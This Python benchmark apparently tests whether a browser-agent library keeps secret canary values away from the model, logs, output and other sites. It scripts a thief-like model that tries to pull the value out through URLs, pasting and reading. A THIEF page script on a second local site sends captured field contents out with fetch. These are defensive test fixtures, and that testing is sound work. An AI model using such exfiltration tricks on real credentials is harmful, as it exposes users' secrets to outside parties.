# ruff: noqa: ASYNC240, RUF007
"""Tests whether a value that no model may see leaks from pages that show it again and to models that ask for it.

`python benchmarks/canaries.py --tries 200` plays that many seeded runs. In each run, a page has a field for a canary, a
value that occurs nowhere else, and does something with it; the model is honest, or does what a thief would ask for.
The bench then searches every place that the value could reach, for the canary in plain, encoded or reversed form and in
pieces. These places are the requests to the model, the folder of the run with its evidence pack, the result, standard output
and error, logs, exceptions, the addresses requested on the site of the task (home), and every byte that a second site
received.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import html
import io
import json
import logging
import os
import random
import re
import sys
import tempfile
import time
import traceback
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

from attackers import AWAY, HOME, Call, Site, controls, reply
from playwright.async_api import Browser

from actwright import Agent, Limits
from actwright.engine.page.browser.launch import open_browser
from actwright.engine.page.page_options import PageOptions
from actwright.testing import OpenAIChatServer

STATEMENT = (
    "Code types the value of a secret or a private value, and the value reaches nothing else: not the model, not the "
    "record, the report and the evidence pack of the run, not its result, output, logs or errors, and no other site. "
    "This holds whatever separators, case, width or elements the page shows the value in, and whatever the model asks "
    "for. No form writes a secret into an address."
)
NOT_COVERED = (
    "what the page that the value is for, its scripts and its server do with it, unless `hosts` are listed; text in "
    "screenshots; the content of downloaded files; values that could be an ordinary word or a short number, which are "
    "masked only once they were used; parts of a value in output and logs, and on pages whose fields do not contain "
    "the value; parts of fewer than 4 characters, and parts of numbers of fewer than 8 digits; hashes, hex and, on "
    "such pages, reversed text; values that a model changed in the field, and that the server then sends to another "
    "site; browsers other than Chromium"
)
TOGETHER = 6
UNSEEN = PageOptions(screenshot="never")
"""The bench does not search the contents of screenshots."""
DATA_URL = re.compile(r"data:[\w/+.-]+;base64,[A-Za-z0-9+/=]+")
FRACTION = re.compile(r"(?<=[:\[, ])-?\d+\.\d+(?=[,}\]\s])")
"""Times and places in recordings, which have many digits by chance."""
COLOUR = re.compile(r"#[0-9a-f]{6}\b")
"""Colours of the report, in which a piece of a value occurs by chance."""
PICTURES = {".png", ".jpg", ".jpeg", ".webp"}

FIELD = {
    "password": "<label>Code <input name=code type=password></label>",
    "card": "<label>Code <input name=code autocomplete=cc-number></label>",
    "shown": "<label>Code <input name=code type=password></label><button type=button onclick=\"document.querySelector('input').type='text'\">Show</button>",
}
REWRITES = {
    "groups of four": "this.value = this.value.replace(/\\W/g, '').replace(/(.{4})(?=.)/g, '$1 ')",
    "parted by dashes": "this.value = this.value.replace(/-/g, '').split('').join('-')",
    "reversed": "this.value = this.value.split('').reverse().join('')",
    "cut": "this.value = this.value.slice(0, 12)",
    "shown beside it": "document.querySelector('p').textContent = 'You typed ' + this.value.replace(/(.{4})/g, '$1 ')",
    "shown in part": "document.querySelector('p').textContent = 'It begins with ' + this.value.slice(0, 8)",
    "in elements of their own": "document.querySelector('p').innerHTML = this.value.match(/.{1,4}/g).map(x => '<b>' + x + '</b>').join(' ')",
    "in the title": "document.title = this.value",
    "in a tooltip": "this.title = this.value",
    "in the address": "history.replaceState(0, '', '?draft=' + encodeURIComponent(this.value))",
    "in base64": "document.querySelector('p').textContent = btoa(unescape(encodeURIComponent(this.value)))",
    "in the console": "console.log(this.value); console.error(new Error(this.value))",
}
DIALOGS = ("alert", "confirm", "prompt")
PAGES = (
    *REWRITES,
    *DIALOGS,
    "echo",
    "encoded echo",
    "echo in groups",
    "echo in cells",
    "error page",
    "exception",
    "download",
    "GET form",
    "form elsewhere",
    "redirected",
    "frame",
    "boxes",
    "plain",
)
MODELS = (
    "honest",
    "every field",
    "copy and paste",
    "read it",
    "in a URL",
    "keys",
    "say it",
    "elsewhere",
    "select it",
    "search for it",
)


@dataclass(frozen=True, slots=True)
class Plan:
    """The plan of one run."""

    number: int
    page: str
    model: str
    field: str
    kind: str
    value: str


def plans(count: int, seed: int) -> list[Plan]:
    """Returns `count` plans, the same for the same seed: each pair of page and model once before any pair repeats."""
    chance = random.Random(seed)
    pairs: list[tuple[str, str]] = []
    while len(pairs) < count:
        pairs += chance.sample(every := [(page, model) for page in PAGES for model in MODELS], len(every))
    return [
        Plan(number, page, model, chance.choice(tuple(FIELD)), chance.choice(("secrets", "private")), canary(chance))
        for number, (page, model) in enumerate(pairs[:count])
    ]


def canary(chance: random.Random) -> str:
    """Returns a unique value: a card number, a token, or a passphrase with characters that need encoding."""
    letters = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789"
    token = "".join(chance.choices(letters, k=15)) + "7qX"
    return chance.choice((
        "".join(chance.choices("0123456789", k=16)), token, f'{token[:5]}&<{token[5:9]}"/ é{token[9:]}', f"{token[:8]}+{token[8:]}=",
    ))  # fmt: skip


def needles(value: str) -> dict[str, re.Pattern[str]]:
    """Returns the patterns to search for, by the form in which they contain the value."""

    def plain(text: str) -> re.Pattern[str]:
        return re.compile(re.escape(text), re.IGNORECASE)

    encoded = {
        "plain": plain(value),
        "URL": plain(quote(value, safe="")),
        "form": plain(quote_plus(value)),
        "HTML": plain(html.escape(value)),
        "JSON": plain(json.dumps(value)[1:-1]),
        "JSON in JSON": plain(json.dumps(json.dumps(value)[1:-1])[1:-1]),
        "base64": re.compile(re.escape(base64.b64encode(value.encode()).decode().rstrip("=")[:-1])),
        "reversed": plain(value[::-1]),
    }
    folded = re.sub(r"[^0-9A-Za-z]", "", value)
    numeric, between = folded.isdigit(), r"[^0-9A-Za-z]{0,12}"
    for way, name in ((folded, "piece"), (folded[::-1], "piece reversed")):
        size = 8 if numeric else 4
        runs = (way[at : at + size] for at in range(len(way) - size + 1))
        joint = between if numeric else ""
        encoded[name] = re.compile("|".join(joint.join(run) for run in runs))
    fours = [folded[at : at + 4] for at in range(0, len(folded) - 3, 4)]
    encoded["fours"] = re.compile(
        "|".join(rf"{a}\D{{1,40}}{b}" for a, b in zip(fours, fours[1:], strict=False)) if numeric else "|".join(fours)
    )
    return encoded


def fours(value: str) -> list[str]:
    """Returns the letters and digits of a value in groups of four."""
    return re.findall(r".{1,4}", re.sub(r"\W", "", value))


def whole(value: str) -> dict[str, re.Pattern[str]]:
    """Returns the same patterns without pieces, which occur in megabytes of logs by chance."""
    return {name: pattern for name, pattern in needles(value).items() if "piece" not in name and name != "fours"}


def found_in(text: str, sought: Mapping[str, re.Pattern[str]]) -> list[str]:
    """Returns the forms in which a text contains the value."""
    text = DATA_URL.sub("", text)
    return [name for name, pattern in sought.items() if pattern.search(text)]


def pages(plan: Plan, away: Site) -> dict[str, Any]:
    """Returns the pages that home serves."""
    field, action, method, after = FIELD[plan.field], "/in", "post", "<title>In</title>Welcome"
    script = REWRITES.get(plan.page, f"{plan.page}(this.value)" if plan.page in DIALOGS else "")
    value = plan.value
    match plan.page:
        case "GET form":
            method = "get"
        case "form elsewhere":
            action = f"{away.url}/take"
        case "exception":
            script = "throw new Error('bad value ' + this.value)"
        case "download":
            script = "const a = document.createElement('a'); a.download = this.value + '.txt'; a.href = 'data:text/plain,hi'; document.body.append(a); a.click()"
        case "boxes":
            field = (
                '<input name=code maxlength=4 autocomplete=cc-number oninput="this.nextElementSibling?.focus()">' * 4
            )
        case "error page":
            after = (500, {}, f"<title>Error</title>Traceback: invalid value {html.escape(value)!s}")
        case "echo":
            after = f"<title>In</title>You are {html.escape(value)}<input value=\"{html.escape(value)}\"><a href='/x?u={quote(value, safe='')}'>Next</a>"
        case "encoded echo":
            forms = (
                quote(value, safe=""),
                base64.b64encode(value.encode()).decode(),
                html.escape(html.escape(value)),
                html.escape(json.dumps(value)),
            )
            after = "<title>In</title>" + "".join(f"<p>{form}</p>" for form in forms)
        case _:
            after = answer_with(plan.page, fours(value), away) or after
    if script:
        field = field.replace("<input name=code", f'<input name=code onchange="{html.escape(script)}"', 1)
    frame = f"<iframe src={away.url}/></iframe>" if plan.page == "frame" else ""
    form = f"<form action='{action}' method={method}>{field}<button>Send</button></form>"
    note = "<textarea aria-label=Note></textarea><input aria-label=Search type=search>"
    page = f"<title>Log in</title>{form}{note}<p></p><a href='/note'>Notes</a><a href='{away.url}/'>Help</a>{frame}"
    return {
        "/": page,
        "/in": after,
        "/note": f"<title>Notes</title><form method=post action=/save>{note}<button>Save</button></form>",
    }


def answer_with(page: str, groups: list[str], away: Site) -> Any:
    """Returns an answer that shows a value in groups or in cells, or that sends it on; nothing for other pages."""
    plain, cells = "".join(groups), "".join(f"<td>{each}</td>" for each in groups)
    wide = "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in plain)
    boxes = "".join(f"<input value='{each}'>" for each in groups)
    return {
        "echo in groups": f"<title>{'-'.join(groups)}</title><p>{' '.join(groups)}</p><p>{plain.swapcase()}</p><p>{wide}</p>"
        f"<a href='/x?u={quote(' '.join(groups))}' title='{'.'.join(groups)}'>Next</a>",
        "echo in cells": f"<title>In</title><table><tr>{cells}</tr></table>{boxes}",
        "redirected": (307, {"Location": f"{away.url}/take"}, ""),
    }.get(page, "")


THIEF = """<title>Help</title><form method=post action=/take><input type=password name=code><input name=more aria-label=More><button>Go</button></form>
<script>const t = document.querySelector('[name=more]'); setInterval(() => { if (parent != self) t.focus(); if (t.value) fetch('/got?' + t.value) }, 5)</script>"""


def script_of(plan: Plan, away: Site) -> Callable[[int, str], dict[str, Any]]:
    """Returns the model's answer in a step, from the number of the step and the text that the model was sent."""
    ref = {"value": "{{code}}"}

    def fill(shown: str, tool: str = "fill") -> Call:
        return tool, {"element_id": (controls(shown, "input") or ["input-0"])[0], **ref}

    def each(shown: str, *tools: str) -> list[Call]:
        return [
            (tool, {"element_id": one, **ref}) for one in controls(shown, "input", "textarea")[:5] for tool in tools
        ]

    def button(shown: str) -> Call:
        return "click", {"element_id": (controls(shown, "button") or ["button-0"])[-1 if plan.field == "shown" else 0]}

    def keys(*names: str) -> list[Call]:
        return [("press", {"element_id": "input-0", "key": name}) for name in names]

    steps: dict[str, list[Callable[[str], list[Call]]]] = {
        "honest": [lambda s: [fill(s)], lambda s: [button(s)], lambda _: [("expect", {"text": "Welcome"})]],
        "every field": [lambda s: each(s, "fill"), lambda s: each(s, "type", "append"), lambda s: [button(s)]],
        "copy and paste": [
            lambda s: [fill(s), *keys("Control+a", "Control+c", "Control+x", "Control+Insert")],
            lambda _: [("navigate", {"url": "/note"})],
            lambda _: [("click_with", {"element_id": "textarea-0", "button": "middle"})],
            lambda _: [("press", {"element_id": "textarea-0", "key": key}) for key in ("Control+v", "Shift+Insert")],
        ],
        "read it": [
            lambda s: [fill(s), ("read", {"element_id": "input-0"}), ("expect_value", {"element_id": "input-0", **ref})],
            lambda _: [("expect", {"text": "{{code}}"}), ("expect_value", {"element_id": "input-0", "value": "x"})],
            lambda s: [button(s), ("read", {"find": "{{code}}"}), ("wait", {"text": "{{code}}", "seconds": 1})],
        ],
        "in a URL": [
            lambda s: [fill(s)],
            lambda _: [("navigate", {"url": f"{away.url}/?c={{{{code}}}}"})],
            lambda _: [("navigate", {"url": "/?c={{code}}"}), ("expect_url", {"url": "{{code}}"})],
        ],
        "keys": [lambda s: [fill(s, "type"), *keys("Backspace", "End", "x", "Home", "y")], lambda _: keys("Delete"), lambda s: [button(s)]],
        "say it": [lambda s: [fill(s), ("fill", {"element_id": "textarea-0", "value": "My code is {{code}}"})], lambda s: [button(s)]],
        "elsewhere": [
            lambda s: [fill(s), ("click", {"element_id": "a-1"})],
            lambda s: each(s, "fill", "type"),
            lambda s: [button(s)],
        ],
        "search for it": [
            lambda s: [fill(s)],
            lambda s: [button(s)],
            lambda _: [(tool, {"text": "{{code}}"}) for tool in ("scroll", "select_text")],
            lambda _: [("expect_request", {"path": "/in", "values": {"code": "{{code}}"}}), ("expect_count", {"text": "{{code}}", "count": 1})],
        ],
        "select it": [
            lambda s: [fill(s), ("select_text", {"element_id": "input-0", "text": "{{code}}"}), ("press", {"key": "Control+c"})],
            lambda _: [("click", {"element_id": "textarea-0"}), ("press", {"key": "Control+v"})],
            lambda s: [("drag", {"element_id": "input-0", "onto": "textarea-0"}), button(s)],
        ],
    }  # fmt: skip

    def answer(number: int, shown: str) -> dict[str, Any]:
        if number >= len(steps[plan.model]):
            return reply(("fail", {"reason": "done with {{code}}"}))
        calls = steps[plan.model][number](shown) or [("wait", {"seconds": 0.1})]
        return reply(*calls, message="the code is {{code}}", reason="use {{code}}")

    return answer


async def play(browser: Browser, plan: Plan, folder: Path) -> tuple[list[str], bool]:
    """Plays one run; returns where and in which form the value leaked, and whether home received it as it should."""
    sought, said, problem = needles(plan.value), "", ""
    with Site(HOME) as home, Site(AWAY) as away:
        home.pages, away.pages = pages(plan, away), {"/": THIEF}
        answer, asked = script_of(plan, away), 0

        def line(body: dict[str, Any]) -> dict[str, Any]:
            nonlocal asked
            asked += 1
            return answer(asked - 1, re.sub(r"\\n", "\n", json.dumps(body["messages"][-1])))

        context = await browser.new_context()
        with OpenAIChatServer([line] * 12) as server:
            try:
                agent = Agent(
                    "openai-chat:m",
                    base_url=server.url,
                    out=folder,
                    evidence_pack=True,
                    page_options=UNSEEN,
                    limits=Limits(steps=6, seconds=90),
                )
                given: dict[str, Any] = {plan.kind: {"code": plan.value}}
                result = await agent.run("Log in", url=f"{home.url}/", page=await context.new_page(), **given)
                said = f"{result.model_dump_json()}\n{result!r}"
            except Exception:  # noqa: BLE001 - any exception is a place to search
                problem = traceback.format_exc()
            finally:
                await context.close()
        sinks = {
            "the model": "\n".join(json.dumps(each.body, ensure_ascii=False) for each in server.received),
            "the result": said,
            "an exception": problem,
        }
        sinks["another site"] = "\n".join(away.bytes_in)
        if plan.kind == "secrets" and plan.page != "in the address":
            sinks["an address at home"] = "\n".join(home.asked)
    for path in folder.rglob("*"):
        sinks.setdefault("names of files", "")
        sinks["names of files"] += f"{path.relative_to(folder)}\n"
        if path.is_file() and path.suffix not in PICTURES and "downloads" not in path.parts:
            sinks |= dict(texts_of(path))
    delivered = any(found_in(sent, {"plain": sought["form"]}) for _, sent in home.posts)
    unlike = {"another site": whole(plan.value)} if plan.page == "redirected" else {}
    found = [f"{how} in {sink}" for sink, text in sinks.items() for how in found_in(text, unlike.get(sink, sought))]
    return found, delivered


def texts_of(path: Path) -> Iterator[tuple[str, str]]:
    """Yields the texts of a file by its name; those of a trace by the names of its members."""
    if path.suffix == ".zip":
        with zipfile.ZipFile(path) as file:
            for name in file.namelist():
                text = file.read(name).decode("utf-8", "replace")
                yield f"{path.name}/{Path(name).name}", f"{name}\n{FRACTION.sub('0', text)}"
        return
    text = path.read_bytes().decode("utf-8", "replace")
    by_chance = {".har": FRACTION, ".html": COLOUR}.get(path.suffix)
    yield path.name, by_chance.sub("0", text) if by_chance else text


async def main(count: int, seed: int, seconds: float) -> tuple[int, int]:
    """Plays the runs; returns how many were played, and in how many a value leaked."""
    os.environ["OPENAI_API_KEY"] = "unused"
    chosen, leaks, told, began = plans(count, seed), Counter[str](), Counter[str](), time.monotonic()
    output, own = io.StringIO(), sys.stdout
    logging.basicConfig(level=logging.DEBUG, stream=output)
    limited, broken = asyncio.Semaphore(TOGETHER), set[int]()

    async with open_browser() as opened:
        browser = opened.page.context.browser
        assert browser is not None

        async def one(plan: Plan) -> None:
            async with limited:
                if time.monotonic() - began > seconds:
                    return
                with tempfile.TemporaryDirectory() as folder:
                    found, delivered = await play(browser, plan, Path(folder))
            told.update(runs=1, delivered=delivered)
            if found:
                broken.add(plan.number)
                leaks.update(found)
                print(plan, found, file=own, flush=True)
            if told["runs"] % 20 == 0:
                print(
                    f"{told['runs']} runs in {time.monotonic() - began:.0f} s, {len(broken)} leaked",
                    file=own,
                    flush=True,
                )

        with contextlib.redirect_stdout(output), contextlib.redirect_stderr(output):
            async with asyncio.TaskGroup() as group:
                for plan in chosen:
                    group.create_task(one(plan))
    for plan in chosen:
        if found := found_in(output.getvalue(), whole(plan.value)):
            broken.add(plan.number)
            print(plan, found, "in output or logs")
    print(f"{told['runs']} runs; {told['delivered']} sent the value home; {len(broken)} leaked: {dict(leaks)}")
    return told["runs"], len(broken)


if __name__ == "__main__":
    from guarantees import parser_of, proved, write

    parser = parser_of(__doc__, tries=200, what="how many runs", seed=4)
    parser.add_argument("--seconds", type=float, default=3600, help="no run starts after this many seconds")
    options = parser.parse_args()
    runs, leaked = asyncio.run(main(options.tries, options.seed, options.seconds))
    write(
        options.out,
        proved("secrets-stay", STATEMENT, tries=runs, violations=leaked, seed=options.seed, not_covered=NOT_COVERED),
    )
